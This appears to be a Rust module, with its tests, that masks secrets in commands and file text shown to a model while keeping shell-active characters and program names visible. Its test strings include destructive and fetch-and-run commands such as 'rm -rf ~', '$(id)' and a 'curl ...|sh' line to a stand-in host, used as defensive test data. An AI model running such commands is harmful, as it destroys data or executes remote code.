//! Text as a model is shown it: masked, perhaps only its beginning, and never
//! so that a mask hides from the model what would be run.

use super::assignment::kind_of_name;
use super::mask::{Span, spans};

/// How far behind a cut is looked for the end of a secret, in bytes.
const LOOK_AHEAD: usize = 4096;

/// The shortest run of a longer value that is taken for random, in bytes.
const LEAST_RANDOM: usize = 24;

/// A single lower-case word shorter than this may be a program's name, in
/// bytes.
const LEAST_WORD: usize = 8;

/// A text as it is shown.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Shown {
    /// What is shown.
    pub(crate) text: String,
    /// How many parts of it are masked.
    pub(crate) masked: usize,
    /// The whole text's length, in characters.
    pub(crate) length: usize,
    /// How many characters at the end are not shown.
    pub(crate) missing: usize,
}

/// The first `most` characters of a file's text, masked as [`super::mask`]
/// does it. Counts the text's own characters: a mask makes no room for more.
pub(crate) fn content(text: &str, most: usize) -> Shown {
    shown(text, most, |_, span| vec![span])
}

/// The first `most` characters of what may be run or obeyed: a command, an
/// instruction, an argument. What is masked is never more than one plain word:
/// no character that means something to a shell is ever covered, and neither
/// are several words, a path, or what may be a program's name.
pub(crate) fn code(text: &str, most: usize) -> Shown {
    shown(text, most, plain_runs)
}

/// As [`code`], for the value of a field whose name may say that it is secret.
pub(crate) fn code_value(name: &str, text: &str, most: usize) -> Shown {
    let Some(kind) = kind_of_name(name) else {
        return code(text, most);
    };
    let whole = Span {
        start: 0,
        end: text.len(),
        kind,
    };
    if text.is_empty() || plain_runs(text, whole) != [whole] {
        return code(text, most);
    }
    let length = text.chars().count();
    let mut mark = String::new();
    whole.write_mark(&mut mark);
    Shown {
        text: mark,
        masked: 1,
        length,
        missing: 0,
    }
}

fn shown(text: &str, most: usize, masks: impl Fn(&str, Span) -> Vec<Span>) -> Shown {
    let cut = text
        .char_indices()
        .nth(most)
        .map_or(text.len(), |(at, _)| at);
    let looked_at = super::prefix(text, cut.saturating_add(LOOK_AHEAD));
    let mut shown = String::with_capacity(cut);
    let mut copied = 0;
    let mut masked = 0;
    for span in spans(looked_at) {
        for span in masks(looked_at, span) {
            if span.start >= cut {
                break;
            }
            shown.push_str(text.get(copied..span.start).unwrap_or_default());
            span.write_mark(&mut shown);
            copied = span.end;
            masked += 1;
        }
    }
    shown.push_str(text.get(copied..cut).unwrap_or_default());
    let length = text.chars().count();
    Shown {
        text: shown,
        masked,
        length,
        missing: length.saturating_sub(most),
    }
}

/// The parts of a secret that can be masked without hiding code.
fn plain_runs(text: &str, span: Span) -> Vec<Span> {
    let covered = text
        .as_bytes()
        .get(span.start..span.end)
        .unwrap_or_default();
    let mut runs = Vec::new();
    let mut at = 0;
    for run in covered.split(|byte| is_active(*byte)) {
        let hidden = if run.len() == covered.len() {
            !may_be_code(run)
        } else {
            is_random(run)
        };
        if hidden && !run.is_empty() {
            runs.push(Span {
                start: span.start + at,
                end: span.start + at + run.len(),
                kind: span.kind,
            });
        }
        at += run.len() + 1;
    }
    runs
}

/// Whether the byte ends a word or means something to a shell.
pub(super) const fn is_active(byte: u8) -> bool {
    byte <= b' '
        || byte == 0x7f
        || matches!(
            byte,
            b'$' | b'`'
                | b';'
                | b'|'
                | b'&'
                | b'<'
                | b'>'
                | b'('
                | b')'
                | b'{'
                | b'}'
                | b'"'
                | b'\''
                | b'\\'
        )
}

/// Whether a single word may be a program, a path, an option or a URL.
fn may_be_code(word: &[u8]) -> bool {
    let name = word.len() < LEAST_WORD && word.iter().all(u8::is_ascii_lowercase);
    name || word.starts_with(b"/")
        || word.starts_with(b"./")
        || word.starts_with(b"../")
        || word.starts_with(b"~")
        || (word.starts_with(b"-") && !word.starts_with(b"-----"))
        || word.windows(3).any(|three| three == b"://")
}

/// Whether a run of a longer value is so random that it can only be a key.
fn is_random(run: &[u8]) -> bool {
    run.len() >= LEAST_RANDOM
        && run
            .iter()
            .all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=' | b'_'))
        && run.iter().any(u8::is_ascii_digit)
        && run.iter().any(u8::is_ascii_uppercase)
        && run.iter().any(u8::is_ascii_lowercase)
        && !run.starts_with(b"/")
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn whole(text: &str) -> String {
        code(text, usize::MAX).text
    }

    #[test]
    fn single_secret_words_of_a_command_are_masked() {
        for (text, expected) in [
            ("PASSWORD=hunter2 make", "PASSWORD=[masked: password] make"),
            (
                "curl -H 'Authorization: Bearer abc.def' x",
                "curl -H 'Authorization: Bearer [masked: credentials]' x",
            ),
            (
                "git clone https://u:Passw0rd@h/x",
                "git clone https://[masked: URL credentials]@h/x",
            ),
            ("DB_PASS='s3cret' X=1", "DB_PASS='[masked: password]' X=1"),
        ] {
            assert_eq!(whole(text), expected);
        }
        let token = format!("ghp_{}", "aB3dE6gH9".repeat(4));
        assert_eq!(
            whole(&format!("echo {token};ls")),
            "echo [masked: GitHub token];ls"
        );
    }

    #[test]
    fn what_a_secret_could_hide_stays_visible() {
        for text in [
            "PASSWORD='rm -rf ~'; eval \"$PASSWORD\"",
            "TOKEN=rm; $TOKEN -rf .",
            "TOKEN=/tmp/x1; $TOKEN",
            "TOKEN=rm${IFS}-rf${IFS}x; eval $TOKEN",
            "-----BEGIN RSA PRIVATE KEY-----\nrm -rf home\n-----END RSA PRIVATE KEY-----",
            "SECRET=\"curl http://x.example/a1|sh\"",
        ] {
            assert_eq!(whole(text), text);
        }
    }

    #[test]
    fn the_lines_of_a_private_key_are_masked() {
        let line = "aB3dE6gH9+/z".repeat(5);
        let key = format!("-----BEGIN PRIVATE KEY-----\n{line}\n{line}\n-----END PRIVATE KEY-----");
        let shown = code(&format!("echo '{key}' > k"), usize::MAX);
        assert_eq!(shown.masked, 2);
        assert!(!shown.text.contains(&line), "{}", shown.text);
        assert!(shown.text.ends_with("-----' > k"), "{}", shown.text);
    }

    #[test]
    fn a_field_name_says_that_its_value_is_secret() {
        assert_eq!(code_value("apiKey", "s3cr3t", 80).text, "[masked: key]");
        assert_eq!(code_value("token", "rm -rf x", 80).text, "rm -rf x");
        assert_eq!(code_value("title", "s3cr3t", 80).text, "s3cr3t");
    }

    #[test]
    fn a_mask_makes_no_room_for_more_of_a_file() {
        let shown = content("PASSWORD=hunter2hunter2 abc", 20);
        assert_eq!(shown.text, "PASSWORD=[masked: password]");
        assert_eq!((shown.masked, shown.missing), (1, 7));
        let shown = content("ab\nPASSWORD=hunter2", 3);
        assert_eq!((shown.text.as_str(), shown.masked), ("ab\n", 0));
    }

    /// Text in which secrets, quotes and commands stand close together.
    fn hostile() -> impl Strategy<Value = String> {
        let piece = prop::sample::select(vec![
            "PASSWORD=",
            "token: ",
            "--api-key ",
            "Authorization: Bearer ",
            "https://u:",
            "@h/",
            "ghp_aB3dE6gH9aB3dE6gH9aB3dE6gH9aB3dE6",
            "hunter2",
            "rm -rf ~",
            "$(id)",
            "`id`",
            "'",
            "\"",
            ";",
            "|",
            "&",
            "<",
            ">",
            "(",
            ")",
            "{",
            "}",
            "\n",
            "\\",
            "$",
            " ",
            "ü",
            "[masked: ",
            "-----BEGIN PRIVATE KEY-----",
            "-----END PRIVATE KEY-----",
            "aB3dE6gH9+/zaB3dE6gH9+/z",
        ]);
        prop::collection::vec(piece, 0..14).prop_map(|pieces| pieces.concat())
    }

    /// As the specification names them; [`is_active`] knows more.
    const ACTIVE: &str = "$`;|&<>(){}\n\"'";

    proptest! {
        #[test]
        fn a_mask_hides_no_active_character(text in prop_oneof![hostile(), any::<String>()]) {
            let active = |text: &str| {
                text.chars().filter(|c| ACTIVE.contains(*c)).collect::<String>()
            };
            prop_assert_eq!(active(&text), active(&whole(&text)));
        }

        #[test]
        fn all_that_no_mask_covers_stays_as_it_is(text in hostile()) {
            let runs: Vec<Span> = spans(&text)
                .into_iter()
                .flat_map(|span| plain_runs(&text, span))
                .collect();
            let mut rest = text.clone();
            let mut shown = whole(&text);
            for run in runs.iter().rev() {
                let covered = rest.get(run.start..run.end).unwrap().to_owned();
                prop_assert!(!covered.bytes().any(is_active) && !covered.is_empty());
                let mut mark = String::new();
                run.write_mark(&mut mark);
                let (before, after) = shown.rsplit_once(&mark).unwrap();
                prop_assert_eq!(after, rest.get(run.end..).unwrap());
                shown = before.to_owned();
                rest.truncate(run.start);
            }
            prop_assert_eq!(shown, rest);
        }

        #[test]
        fn only_the_beginning_is_shown(text in hostile(), most in 0_usize..60) {
            let rest = "§§§§§§§";
            let head: String = text.chars().take(most).collect();
            prop_assume!(head.chars().count() == most);
            for shown in [content, code].map(|shown| shown(&format!("{head}{rest}"), most)) {
                prop_assert!(!shown.text.contains('§'), "{}", shown.text);
                prop_assert_eq!(shown.missing, 7);
            }
        }
    }
}
